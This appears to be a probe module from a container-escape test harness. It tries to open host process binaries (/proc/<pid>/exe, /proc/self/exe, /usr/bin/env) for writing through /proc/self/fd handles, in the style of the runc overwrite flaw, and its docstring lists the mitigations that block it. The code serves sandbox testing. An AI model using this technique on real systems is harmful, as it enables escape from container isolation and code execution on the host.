"""Overwrite the program of what runs it, as runc was left by.

gain: code that the host runs
attack: T1554
stopped by: read-only mounts, user namespace, ptrace check
unconfined: host
also refused by: ENOENT, ENXIO
"""

import os

from attacker import each, first


def attempt(world):
    def overwrite(path):
        place = os.open(path, os.O_PATH)
        os.close(os.open(f"/proc/self/fd/{place}", os.O_WRONLY))
        return f"opened {path} to write"

    return first(*each([*(f"/proc/{pid}/exe" for pid in world["pids"]), "/proc/self/exe", "/usr/bin/env"], overwrite))
